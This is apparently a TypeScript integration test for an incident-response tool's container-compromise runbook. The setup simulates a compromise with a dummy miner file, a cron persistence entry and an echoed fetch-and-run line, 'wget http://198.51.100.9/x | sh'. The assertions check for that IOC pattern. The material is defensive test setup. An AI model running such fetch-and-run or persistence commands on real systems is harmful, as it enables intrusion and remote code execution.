import type Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execIn, removeQuietly, startVictim, testDocker, uniqueName } from '../helpers/docker.js';
import { expectCustodyVerifies, expectEvidenceIntact, findings, runbookWorkspace, runThroughApproval, type RunbookWorkspace } from './runbook-workspace.js';

describe('shipped runbook container-compromise', () => {
  const docker = testDocker();
  const network = uniqueName('cc-net');
  const name = uniqueName('cc-web');
  let victim: Docker.Container;
  let original: Docker.ContainerInspectInfo;
  let ws: RunbookWorkspace;
  let incidentId: string;

  beforeAll(async () => {
    await docker.createNetwork({ Name: network, Labels: { 'irctl.test': '1' } });
    victim = await startVictim(docker, {
      name,
      network,
      cmd: ['sh', '-c', 'echo started; exec httpd -f -p 8080 -h /srv'],
      env: ['APP_MODE=prod'],
      labels: { 'com.docker.compose.project': 'shop', 'com.docker.compose.service': name },
      hostConfig: { RestartPolicy: { Name: 'unless-stopped' } },
    });
    original = await victim.inspect();
    // the compromise: a dropped payload, cron persistence, and the dropper's trace in the logs
    await execIn(victim, [
      'sh',
      '-c',
      'mkdir -p /tmp/.x /etc/cron.d && echo "while :; do sleep 1; done" > /tmp/.x/miner && chmod +x /tmp/.x/miner && echo "* * * * * root /tmp/.x/miner" > /etc/cron.d/evil',
    ]);
    await execIn(victim, ['sh', '-c', 'echo "attack: wget http://198.51.100.9/x | sh" > /proc/1/fd/1']);

    ws = runbookWorkspace();
    // selected by its Compose labels, as an alert from a Compose deployment would name it
    incidentId = await runThroughApproval(ws, 'container-compromise', { container: `compose:shop/${name}`, watch_for: '3s' });
  }, 90_000);

  afterAll(async () => {
    await removeQuietly(docker.getContainer(name));
    await ws?.removeForensicImages();
    await docker
      .getNetwork(network)
      .remove()
      .catch(() => undefined);
  });

  it('contained the original container on the quarantine network and froze it before any recovery', () => {
    const contained = ws.query<{ act: string; subject: string; how_json: string }>(
      "SELECT act, subject, how_json FROM custody_records WHERE incident_id = ? AND act = 'contained'",
      incidentId,
    );
    expect(contained.map((record) => JSON.parse(record.how_json).action)).toEqual(['docker.isolate', 'docker.pause']);
    expect(contained.every((record) => record.subject === original.Id)).toBe(true);
  });

  it('captured every kind of evidence in order of volatility, each file matching its hash', () => {
    const steps = ws
      .query<{ step_id: string }>("SELECT step_id FROM step_journal WHERE incident_id = ? AND status = 'finished' ORDER BY started_at", incidentId)
      .map((row) => row.step_id);
    // the three millisecond captures run side by side (in any order), all before containment
    expect(steps.slice(0, 3).sort()).toEqual(['connections', 'inspect', 'processes']);
    expect(steps.slice(3, 11)).toEqual(['isolate', 'freeze', 'logs', 'diff', 'dropped-files', 'forensic-image', 'filesystem', 'docker-journal']);
    const byKind = expectEvidenceIntact(ws, incidentId);
    for (const kind of ['inspect', 'processes', 'network', 'logs', 'diff', 'files', 'image', 'export', 'host-command'])
      expect(byKind.has(kind), kind).toBe(true);
  });

  it('found the dropper in the logs and the cron persistence and payload in the diff', () => {
    const found = findings(ws, incidentId);
    expect(found).toContainEqual(expect.objectContaining({ step_id: 'ioc-scan', kind: 'ioc-match', severity: 'medium' }));
    expect(JSON.parse(found.find((f) => f.step_id === 'ioc-scan')!.detail)).toMatchObject({ line: 2, indicator: 'wget .*\\|\\s*sh' });
    const diff = found.filter((f) => f.step_id === 'review-diff').map((f) => [f.kind, JSON.parse(f.detail).path]);
    expect(diff).toEqual([
      ['cron', '/etc/cron.d/evil'],
      ['dropped-file', '/tmp/.x/miner'],
    ]);
  });

  it('replaced the container with a clean one that keeps its name, env, labels, restart policy and network', async () => {
    const fresh = await docker.getContainer(name).inspect();
    expect(fresh.Id).not.toBe(original.Id);
    expect(fresh.State.Running).toBe(true);
    expect(fresh.Config.Env).toContain('APP_MODE=prod');
    expect(fresh.Config.Cmd).toEqual(original.Config.Cmd);
    expect(fresh.Config.Labels).toMatchObject({ 'com.docker.compose.service': name, 'irctl.recreated_from': original.Id });
    expect(fresh.HostConfig.RestartPolicy?.Name).toBe('unless-stopped');
    expect(Object.keys(fresh.NetworkSettings.Networks)).toEqual([network]);
    await expect(docker.getContainer(original.Id).inspect()).rejects.toMatchObject({ statusCode: 404 });
  });

  it('leaves a custody chain that irctl custody verify accepts', async () => {
    await expectCustodyVerifies(ws, incidentId);
  });
});
